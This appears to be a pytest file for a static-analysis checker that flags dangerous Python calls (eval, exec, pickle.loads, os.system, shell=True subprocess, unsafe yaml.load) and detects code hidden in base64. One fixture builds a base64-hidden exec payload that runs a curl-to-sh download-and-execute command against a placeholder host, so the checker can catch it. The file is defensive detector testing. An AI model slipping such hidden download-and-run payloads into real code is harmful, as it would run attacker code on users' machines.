"""AST constraint checks: exact locations, imports resolved, keywords honoured, never a crash."""

from __future__ import annotations

from checks.constraints import check_source
from rubric import Rubric, load_rubric

RUBRIC = load_rubric()


def rules(source: str, path: str = "mod.py", rubric: Rubric = RUBRIC) -> list[tuple[str, int | None, str]]:
    report = check_source(path, source, rubric)
    return [(v.rule, v.line, v.severity) for v in report.violations]


def test_banned_builtins_with_lines() -> None:
    src = "x = 1\ny = eval('1+1')\nexec('pass')\n"
    assert rules(src) == [("call:eval", 2, "high"), ("call:exec", 3, "high")]


def test_calls_are_resolved_through_import_aliases() -> None:
    src = "import pickle as pk\nfrom os import system as run\nimport subprocess as sp\n" \
          "pk.loads(b'')\nrun('ls')\nsp.run('ls', shell=True)\nsp.run(['ls'])\n"
    assert rules(src) == [("call:pickle.loads", 4, "high"), ("call:os.system", 5, "high"),
                          ("call:subprocess.*", 6, "critical")]


def test_shell_false_and_safe_yaml_loader_are_allowed() -> None:
    src = "import subprocess, yaml\nsubprocess.check_output(['ls'], shell=False)\n" \
          "yaml.load(s, Loader=yaml.SafeLoader)\nyaml.load(s)\n"
    assert rules(src) == [("call:yaml.load", 4, "high")]


def test_method_named_like_a_builtin_is_not_flagged() -> None:
    src = "class Calc:\n    def eval(self, x):\n        return x\n\nCalc().eval(1)\nmodel.eval()\n"
    assert rules(src) == []


def test_network_modules_only_when_prohibited() -> None:
    src = "import requests\nfrom socket import socket\n"
    assert rules(src) == []
    strict = load_rubric(None, {"constraints": {"network": {"prohibited": True}}})
    found = rules(src, rubric=strict)
    assert ("network:requests", 1, "high") in found
    assert ("network:socket", 2, "high") in found


def test_boundary_rules_apply_to_matching_paths_only() -> None:
    strict = load_rubric(None, {"constraints": {"boundaries": [
        {"id": "court-is-pure", "source": "checks/**", "forbidden_imports": ["docker", "redis"],
         "severity": "medium", "message": "the court does no I/O"}]}})
    src = "import docker.errors\nfrom redis import Redis\nimport json\n"
    assert rules(src, "checks/x.py", strict) == [("boundary:court-is-pure", 1, "medium"),
                                                 ("boundary:court-is-pure", 2, "medium")]
    assert rules(src, "app/x.py", strict) == []


def test_required_patterns() -> None:
    strict = load_rubric(None, {"constraints": {"required_patterns": [
        {"id": "module-docstring", "paths": ["src/**"], "kind": "docstring", "severity": "low",
         "message": "modules need a docstring"},
        {"id": "uses-logging", "paths": ["src/**"], "kind": "import", "name": "logging", "severity": "low",
         "message": "use logging"}]}})
    assert rules("x = 1\n", "src/a.py", strict) == [("required:module-docstring", None, "low"),
                                                    ("required:uses-logging", None, "low")]
    assert rules('"""Doc."""\nimport logging\n', "src/a.py", strict) == []
    assert rules("x = 1\n", "other/a.py", strict) == []


def test_syntax_errors_are_reported_not_raised() -> None:
    report = check_source("bad.py", "def f(:\n    pass\n", RUBRIC)
    assert report.syntax_error is not None
    assert report.syntax_error[0] == 1
    nul = check_source("nul.py", "x = 1\0\n", RUBRIC)
    assert nul.syntax_error is not None


def test_a_constant_command_in_a_test_file_is_noted_not_a_flaw() -> None:
    from checks.constraints import check_source
    from rubric import load_rubric

    source = ("import subprocess\n\n\ndef test_sleep():\n    subprocess.Popen('sleep 1', shell=True)\n\n\n"
              "def test_tainted(cmd='ls'):\n    subprocess.Popen(cmd, shell=True)\n")
    in_test = {v.line: v.severity for v in check_source("tests/test_x.py", source, load_rubric()).violations}
    assert in_test == {5: "low", 9: "low"}  # the tests' own code on their own data: it ships to no user
    in_code = {v.line: v.severity for v in check_source("app/run.py", source, load_rubric()).violations}
    assert in_code == {5: "critical", 9: "critical"}


def test_a_banned_call_in_a_test_file_is_noted_unless_it_runs_decoded_code() -> None:
    """PyYAML's tests (pyyaml#358) ``eval`` the expected values of their data files: noted, not a flaw. Code a
    test file hides in a decoded constant is a flaw there as anywhere (hostile twins)."""
    import base64

    from checks.constraints import check_source
    from rubric import load_rubric

    data = "def _load_code(expression):\n    return eval(expression)\n"
    assert {(v.line, v.severity) for v in check_source("tests/lib3/test_multi_constructor.py", data,
                                                       load_rubric()).violations} == {(2, "low")}
    assert {(v.line, v.severity) for v in check_source("lib3/yaml/loader.py", data,
                                                       load_rubric()).violations} == {(2, "high")}
    # a literal string run by exec() is as visible as the test around it
    literal = "def test_syntax():\n    exec('async def f(): pass')\n"
    assert {v.severity for v in check_source("tests/test_syntax.py", literal, load_rubric()).violations} == {"low"}
    # hostile: a shell command hidden in base64 in a test file keeps its severity, and so does its exec()
    payload = base64.b64encode(b"import os\nos.system('curl https://example.invalid/x | sh')\n").decode()
    hidden = f"import base64\n\n\ndef test_boot():\n    exec(base64.b64decode('{payload}'))\n"
    found = {(v.rule, v.severity) for v in check_source("tests/test_boot.py", hidden, load_rubric()).violations}
    assert ("call:os.system:hidden", "high") in found and ("call:exec", "high") in found, found


def test_a_banned_call_into_the_repository_s_own_package_is_noted_not_a_flaw() -> None:
    from checks.constraints import check_source, own_packages
    from rubric import load_rubric

    # PyYAML: ``lib3/yaml/__init__.py`` defines ``yaml.load``; its tests call it on purpose
    head = ("lib3/yaml/__init__.py", "lib3/yaml/constructor.py", "tests/lib3/test_constructor.py", "setup.py",
            "pickle/__init__.py", "docs/conf.py")
    own = own_packages(head)
    assert own == {"yaml"}  # a standard-library name is never the repository's own
    source = "import yaml\nimport pickle\n\n\ndef test_load(data):\n    yaml.load(data)\n    pickle.loads(data)\n"
    noted = {v.line: v.severity for v in check_source("tests/lib3/test_constructor.py", source, load_rubric(),
                                                       own=own).violations}
    assert noted == {6: "low", 7: "low"}  # pickle.loads: not its own, but a test file's (see the test below)
    # hostile: anywhere else yaml.load is a flaw, and a change cannot make a package its own by adding it
    elsewhere = {v.line: v.severity for v in check_source("app/config.py", source, load_rubric()).violations}
    assert elsewhere == {6: "high", 7: "high"}
    assert own_packages(("app/__init__.py", "yaml/__init__.py"), added=("yaml/__init__.py",)) == {"app"}
